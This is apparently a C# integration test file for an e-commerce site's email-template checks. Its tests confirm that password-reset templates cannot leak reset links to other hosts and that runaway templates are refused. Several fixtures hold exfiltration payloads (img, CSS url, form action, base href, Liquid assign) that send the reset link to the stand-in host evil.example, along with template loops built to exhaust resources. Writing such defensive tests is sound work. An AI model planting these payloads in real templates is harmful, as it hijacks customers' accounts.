using System.Diagnostics;
using System.Net;
using System.Security.Claims;
using System.Text.RegularExpressions;
using Commerce.Customers.Models;
using Commerce.Customers.Tests.Infrastructure;
using Microsoft.AspNetCore.Identity;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;

namespace Commerce.Customers.Tests.Integration;

/// <summary>A demo site with a real SMTP server and a staff member who holds only ManageCustomerSettings.</summary>
public sealed class SecretTemplatesSite : IAsyncLifetime
{
    public const string SettingsStaffEmail = "settings-only@example.com";
    public const string SettingsStaffPassword = "Settings-Passw0rd!";

    public SmtpTestServer Smtp { get; private set; } = null!;
    public TestSite Site { get; private set; } = null!;

    public async Task InitializeAsync()
    {
        Smtp = await SmtpTestServer.StartAsync();
        Site = await TestSite.StartAsync(new TestSiteOptions
        {
            Smtp = Smtp,
            Settings = new Dictionary<string, string>
            {
                ["CommerceCustomers:Accounts:RequestsPerMinutePerIp"] = "1000000",
                // Small bounds keep the refusals of unbounded templates quick to prove.
                ["CommerceCustomers:Email:Rendering:MaxSteps"] = "20000",
            },
        });
        await Site.WithDbAsync(async (db, services) =>
        {
            var roles = services.GetRequiredService<RoleManager<IdentityRole>>();
            var users = services.GetRequiredService<UserManager<ShopUser>>();
            var role = new IdentityRole("Settings only");
            Assert.True((await roles.CreateAsync(role)).Succeeded);
            Assert.True((await roles.AddClaimAsync(role, new Claim(Permissions.ClaimType, "ManageCustomerSettings"))).Succeeded);
            var user = new ShopUser { UserName = SettingsStaffEmail, Email = SettingsStaffEmail };
            Assert.True((await users.CreateAsync(user, SettingsStaffPassword)).Succeeded);
            Assert.True((await users.AddToRoleAsync(user, role.Name!)).Succeeded);
            return 0;
        });
    }

    public async Task DisposeAsync()
    {
        await Site.DisposeAsync();
        await Smtp.DisposeAsync();
    }
}

/// <summary>
/// Issue 13, example 5: secrets leave only through the site's own address and fixed templates.
/// Each test reproduces one way "Manage customer settings" reached every account.
/// </summary>
public sealed partial class SecretTemplatesTests(SecretTemplatesSite fixture) : IClassFixture<SecretTemplatesSite>, IAsyncLifetime
{
    private const string PasswordReset = "/admin/email-templates/PasswordReset";
    private const string PasswordChangedNotice = "/admin/email-templates/PasswordChangedNotice";
    private const string Exfiltration = "<p><a href=\"{{ link }}\">Choose a new password</a></p><img src=\"https://evil.example/p.gif?l={{ link | url_encode }}\">";

    private TestSite Site => fixture.Site;

    public async Task InitializeAsync()
    {
        // Each test starts from the shipped templates and the set-up address.
        await Site.WithDbAsync(async db =>
        {
            await db.EmailTemplates.ExecuteDeleteAsync();
            await db.SiteSettings.ExecuteUpdateAsync(set => set.SetProperty(s => s.BaseUrl, "http://localhost"));
            return 0;
        });
        Commerce.Customers.Services.SiteSettingsCache.Invalidate();
    }

    public Task DisposeAsync() => Task.CompletedTask;

    [Fact]
    public async Task Staff_with_only_customer_settings_cannot_point_links_at_another_site()
    {
        using var staff = await SettingsStaffAsync();

        using var response = await staff.PostFormAsync("/admin/email-settings", [new("SiteAddress", "https://evil.example")], postUrl: "/admin/email-settings/site-address");

        Assert.Equal(HttpStatusCode.Forbidden, response.StatusCode);
        Assert.Contains("Only an administrator can change the site address", WebUtility.HtmlDecode(Html.FieldError(await response.Content.ReadAsStringAsync(), "SiteAddress")), StringComparison.Ordinal);
        Assert.Contains("id=\"site-address-reserved\"", await staff.GetPageAsync("/admin/email-settings"), StringComparison.Ordinal);
        Assert.Equal("http://localhost", await Site.WithDbAsync(db => db.SiteSettings.Select(s => s.BaseUrl).SingleAsync()));
        Assert.StartsWith("http://localhost/account/set-password#", await ResetLinkAsync(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task Staff_with_only_customer_settings_cannot_change_or_reset_a_template_that_carries_a_link_or_password()
    {
        using var staff = await SettingsStaffAsync();
        // Each language's version is guarded alike: the German one is no side door.
        foreach (var (name, language) in new[] { "PasswordReset", "SetPasswordLink", "LoginCreated", "PasswordChanged" }.SelectMany(name => new[] { (name, ""), (name, "?language=de") }))
        {
            var url = "/admin/email-templates/" + name + language;
            foreach (var submit in new[] { "save", "preview" })
            {
                using var saved = await staff.PostFormAsync(url, [new("Subject", "Hi"), new("HtmlBody", Exfiltration), new("TextBody", "{{ link }}{{ password }}"), new("Submit", submit)]);
                Assert.Equal(HttpStatusCode.Forbidden, saved.StatusCode);
                Assert.Contains("Only an administrator can change templates that carry a password or a link", WebUtility.HtmlDecode(await saved.Content.ReadAsStringAsync()), StringComparison.Ordinal);
            }

            using var reset = await staff.PostFormAsync(url, [], postUrl: "/admin/email-templates/" + name + "/reset" + language);
            Assert.Equal(HttpStatusCode.Forbidden, reset.StatusCode);
        }

        Assert.False(await Site.WithDbAsync(db => db.EmailTemplates.AnyAsync()));
        // The page itself stays readable, and says who may change it.
        Assert.Contains("Only an administrator can change templates that carry a password or a link", WebUtility.HtmlDecode(await staff.GetPageAsync(PasswordReset)), StringComparison.Ordinal);
        Assert.DoesNotContain("evil.example", (await ResetEmailAsync()).HtmlBody, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Staff_with_only_customer_settings_still_edit_templates_without_secrets()
    {
        using var staff = await SettingsStaffAsync();

        using var saved = await staff.PostFormAsync(PasswordChangedNotice, [new("Subject", "Changed for {{ customer.first_name }}"), new("HtmlBody", "<p>Changed</p>"), new("TextBody", "Changed"), new("Submit", "save")]);

        Assert.Equal(HttpStatusCode.Redirect, saved.StatusCode);
        Assert.True(await Site.WithDbAsync(db => db.EmailTemplates.AnyAsync(t => t.Name == "PasswordChangedNotice")));
    }

    [Theory]
    [InlineData("HtmlBody", "<img src=\"https://evil.example/p.gif?l={{ link | url_encode }}\">")]
    [InlineData("HtmlBody", "<a href=\"https://evil.example/?l={{ link }}\">Choose a new password</a>")]
    [InlineData("HtmlBody", "<a href=\"//evil.example/?l={{ link }}\">x</a>")]
    [InlineData("HtmlBody", "<a href=\"https:\\\\evil.example/?l={{ link }}\">x</a>")]
    [InlineData("HtmlBody", "<a href=\"{{ link | replace: 'localhost', 'evil.example' }}\">x</a>")]
    [InlineData("HtmlBody", "<img srcset=\"https://localhost/a.png 1x, https://evil.example/b.png?{{ link | url_encode }} 2x\">")]
    [InlineData("HtmlBody", "<div style=\"background:url(https://evil.example/?{{ link | url_encode }})\">x</div>")]
    [InlineData("HtmlBody", "<style>p { background: url('https://evil.example/{{ link | base64_encode }}') }</style>")]
    [InlineData("HtmlBody", "<form action=\"https://evil.example/steal\"><input name=\"l\" value=\"{{ link }}\"></form>")]
    [InlineData("HtmlBody", "<img src=\"https://evil.example/{{ link | base64_encode }}.gif\">")]
    [InlineData("HtmlBody", "<base href=\"https://evil.example/\"><a href=\"p?l={{ link | url_encode }}\">x</a>")]
    [InlineData("TextBody", "Choose a new password: https://evil.example/?l={{ link | url_encode }}")]
    [InlineData("TextBody", "Choose a new password: evil.example/reset?l={{ link | url_encode }}")]
    public async Task A_template_that_puts_the_link_into_an_address_on_another_host_is_refused_on_save_and_on_preview(string field, string leak)
    {
        using var admin = await Site.AdminClientAsync();
        var fields = new Dictionary<string, string> { ["Subject"] = "Reset", ["HtmlBody"] = "<p><a href=\"{{ link }}\">Choose</a></p>", ["TextBody"] = "{{ link }}" };
        fields[field] += leak;

        foreach (var submit in new[] { "save", "preview" })
        {
            using var response = await admin.PostFormAsync(PasswordReset, [.. fields, new("Submit", submit)]);
            var page = await response.Content.ReadAsStringAsync();
            Assert.Equal(HttpStatusCode.OK, response.StatusCode);
            Assert.Contains("another host", WebUtility.HtmlDecode(Html.FieldError(page, field)), StringComparison.Ordinal);
            Assert.DoesNotContain("id=\"preview\"", page, StringComparison.Ordinal);
        }

        Assert.False(await Site.WithDbAsync(db => db.EmailTemplates.AnyAsync()));
    }

    [Fact]
    public async Task A_host_assigned_in_the_subject_and_used_in_the_body_is_refused_too()
    {
        // The three parts render in one context, so a variable assigned in one reaches the others.
        using var admin = await Site.AdminClientAsync();

        using var response = await admin.PostFormAsync(PasswordReset, [
            new("Subject", "Reset{% assign away = 'https://evil.example/?' %}"),
            new("HtmlBody", "<img src=\"{{ away }}{{ link }}\">"),
            new("TextBody", "{{ link }}"),
            new("Submit", "save")]);

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Contains("another host (evil.example)", WebUtility.HtmlDecode(Html.FieldError(await response.Content.ReadAsStringAsync(), "HtmlBody")), StringComparison.Ordinal);
        Assert.False(await Site.WithDbAsync(db => db.EmailTemplates.AnyAsync()));
    }

    [Fact]
    public async Task The_administrator_may_link_to_the_site_itself_and_show_other_hosts_images_without_secrets()
    {
        using var admin = await Site.AdminClientAsync();

        using var saved = await admin.PostFormAsync(PasswordReset, [
            new("Subject", "Reset for {{ site.name }}"),
            new("HtmlBody", "<img src=\"https://cdn.example/logo.png\"><p><a href=\"{{ link }}\">Choose a new password</a> or <a href=\"{{ site.base_url }}/help?from={{ user_name | url_encode }}\">ask</a></p>"),
            new("TextBody", "Choose a new password: {{ link }}\nHelp: https://help.example/reset"),
            new("Submit", "save")]);

        Assert.Equal(HttpStatusCode.Redirect, saved.StatusCode);
        var email = await ResetEmailAsync();
        Assert.Contains("https://cdn.example/logo.png", email.HtmlBody, StringComparison.Ordinal);
        Assert.StartsWith("http://localhost/account/set-password#", Emails.SetPasswordLink(email).Link, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Every_shipped_template_passes_the_checks_on_save()
    {
        using var admin = await Site.AdminClientAsync();
        foreach (var definition in Commerce.Customers.Notifications.EmailTemplateDefinitions.All)
        {
            using var saved = await admin.PostFormAsync("/admin/email-templates/" + definition.Name, [new("Subject", definition.Subject), new("HtmlBody", definition.HtmlBody), new("TextBody", definition.TextBody), new("Submit", "save")]);
            Assert.True(saved.StatusCode == HttpStatusCode.Redirect, $"{definition.Name}: {Html.Text(await saved.Content.ReadAsStringAsync())}");
        }
    }

    [Fact]
    public async Task A_template_that_always_fails_is_refused_on_save_with_the_reason()
    {
        using var admin = await Site.AdminClientAsync();

        using var response = await admin.PostFormAsync(PasswordChangedNotice, [new("Subject", "Changed"), new("HtmlBody", "<p>{% include 'x' %}</p>"), new("TextBody", "Changed"), new("Submit", "save")]);

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Contains("include", WebUtility.HtmlDecode(Html.FieldError(await response.Content.ReadAsStringAsync(), "HtmlBody")), StringComparison.Ordinal);
        Assert.False(await Site.WithDbAsync(db => db.EmailTemplates.AnyAsync()));
    }

    [Theory]
    [InlineData("{% for i in (1..4000) %}{% for j in (1..4000) %}x{% endfor %}{% endfor %}", "steps")]
    [InlineData("{% assign s = 'xxxxxxxxxxxxxxxx' %}{% for i in (1..24) %}{% assign s = s | append: s %}{% endfor %}{{ s | size }}", "characters")]
    [InlineData("{% assign s = 'xxxxxxxxxxxxxxxx' | append: 'xxxxxxxxxxxxxxxx' %}{% for i in (1..2000) %}{{ s }}{{ s }}{{ s }}{{ s }}{{ s }}{{ s }}{% endfor %}", "characters")]
    [InlineData("{% for i in (1..100000000) %}{% break %}{% endfor %}", "items")]
    public async Task An_unbounded_template_is_refused_promptly_on_preview_and_on_save(string body, string reason)
    {
        using var admin = await Site.AdminClientAsync();
        foreach (var submit in new[] { "preview", "save" })
        {
            var clock = Stopwatch.StartNew();
            using var response = await admin.PostFormAsync(PasswordChangedNotice, [new("Subject", "Changed"), new("HtmlBody", "<p>x</p>"), new("TextBody", body), new("Submit", submit)]);
            clock.Stop();

            Assert.Equal(HttpStatusCode.OK, response.StatusCode);
            Assert.Contains(reason, WebUtility.HtmlDecode(Html.FieldError(await response.Content.ReadAsStringAsync(), "TextBody")), StringComparison.Ordinal);
            Assert.True(clock.Elapsed < TimeSpan.FromSeconds(3), $"{submit} took {clock.Elapsed}.");
        }

        Assert.False(await Site.WithDbAsync(db => db.EmailTemplates.AnyAsync()));
    }

    [Fact]
    public async Task Forgot_password_answers_the_same_for_known_and_unknown_accounts_when_the_template_fails_at_send_time()
    {
        // Saved before the checks existed, or fails only for some customers: it is not rendered in the request.
        await Site.WithDbAsync(async db =>
        {
            db.EmailTemplates.Add(new EmailTemplate { Name = "PasswordReset", Subject = "Reset {% include 'x' %}", HtmlBody = "{% include 'x' %}", TextBody = "{% include 'x' %}", UpdatedUtc = DateTime.UtcNow });
            return await db.SaveChangesAsync();
        });
        var before = await Site.WithDbAsync(db => db.Notifications.CountAsync(n => n.Template == "PasswordReset"));
        using var visitor = Site.CreateSiteClient();

        var known = await ForgotAsync(visitor, await NewAccountAsync());
        var unknown = await ForgotAsync(visitor, "nobody@example.com");

        Assert.Equal(known, unknown);
        // The request queued the message; rendering (and failing) is the dispatcher's, outside the request.
        Assert.Equal(before + 1, await Site.WithDbAsync(db => db.Notifications.CountAsync(n => n.Template == "PasswordReset")));
        var queued = await Site.WithDbAsync(db => db.Notifications.Where(n => n.Template == "PasswordReset").OrderByDescending(n => n.CreatedUtc).FirstAsync());
        var failed = await Outbox.WaitUntilAsync(Site, queued.Id, n => n.LastError != null);
        Assert.Contains("include", failed.LastError, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_leaking_template_saved_before_the_checks_is_not_delivered()
    {
        await Site.WithDbAsync(async db =>
        {
            db.EmailTemplates.Add(new EmailTemplate { Name = "PasswordReset", Subject = "Reset", HtmlBody = Exfiltration.Replace(" | url_encode", "", StringComparison.Ordinal), TextBody = "{{ link }}", UpdatedUtc = DateTime.UtcNow });
            return await db.SaveChangesAsync();
        });
        var email = await NewAccountAsync();
        using var visitor = Site.CreateSiteClient();
        await ForgotAsync(visitor, email);

        var queued = await Site.WithDbAsync(db => db.Notifications.SingleAsync(n => n.RecipientEmail == email));
        var failed = await Outbox.WaitUntilAsync(Site, queued.Id, n => n.LastError != null);
        Assert.Contains("another host (evil.example)", failed.LastError, StringComparison.Ordinal);
        Assert.DoesNotContain(fixture.Smtp.Messages, m => m.To.Contains(email));
    }

    private async Task<SiteClient> SettingsStaffAsync()
    {
        var client = Site.CreateSiteClient();
        await client.SignInAsync(SecretTemplatesSite.SettingsStaffEmail, SecretTemplatesSite.SettingsStaffPassword);
        return client;
    }

    /// <summary>A new customer with a login: reset emails are limited per address, so each test asks for its own.</summary>
    private Task<string> NewAccountAsync() => Site.WithDbAsync(async (db, services) =>
    {
        var email = $"reset-{Guid.NewGuid():N}@example.com";
        var user = new ShopUser { UserName = email, Email = email };
        Assert.True((await services.GetRequiredService<UserManager<ShopUser>>().CreateAsync(user, SecretTemplatesSite.SettingsStaffPassword)).Succeeded);
        db.Customers.Add(new Customer { FirstName = "Reset", LastName = "Tester", Email = email, UserId = user.Id, CreatedUtc = DateTime.UtcNow });
        await db.SaveChangesAsync();
        return email;
    });

    private async Task<ReceivedEmail> ResetEmailAsync()
    {
        var email = await NewAccountAsync();
        using var visitor = Site.CreateSiteClient();
        Assert.StartsWith("200 ", await ForgotAsync(visitor, email), StringComparison.Ordinal);
        var deadline = DateTime.UtcNow.AddSeconds(20);
        while (true)
        {
            if (fixture.Smtp.Messages.FirstOrDefault(m => m.To.Contains(email)) is { } received)
            {
                return received;
            }

            Assert.True(DateTime.UtcNow < deadline, $"No reset email reached {email}.");
            await Task.Delay(50);
        }
    }

    private async Task<string> ResetLinkAsync() => Emails.SetPasswordLink(await ResetEmailAsync()).Link;

    private static async Task<string> ForgotAsync(SiteClient client, string email)
    {
        using var response = await client.PostFormAsync("/account/forgot-password", [new("Email", email)]);
        var page = await response.Content.ReadAsStringAsync();
        // Everything but the echoed email and the per-response token must be identical, the status included.
        return $"{(int)response.StatusCode} " + TokenPattern().Replace(page.Replace(WebUtility.HtmlEncode(email), "", StringComparison.Ordinal), "");
    }

    [GeneratedRegex("name=\"__RequestVerificationToken\" type=\"hidden\" value=\"[^\"]+\"")]
    private static partial Regex TokenPattern();
}
